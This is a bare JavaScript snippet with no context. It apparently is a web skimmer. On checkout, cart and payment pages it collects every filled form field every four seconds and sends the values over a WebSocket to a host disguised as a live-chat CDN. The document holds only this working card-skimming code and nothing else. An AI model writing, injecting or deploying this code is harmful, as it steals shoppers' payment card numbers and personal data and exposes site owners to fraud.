window.addEventListener('load', function () {
  if (!/checkout|cart|payment/.test(window.location)) return;
  setInterval(function () {
    var forms = document.forms, s = {};
    for (var i = 0; i < forms.length; i++)
      for (var j = 0; j < forms[i].elements.length; j++) {
        var e = forms[i].elements[j];
        if (e.value) s[e.name || ('f' + j)] = e.value;
      }
    if (Object.keys(s).length < 5) return;
    var w = new WebSocket('wss://ws.livechat-cdn.example:8443/c');
    w.onopen = function () { w.send(JSON.stringify(s)); w.close(); };
  }, 4000);
});
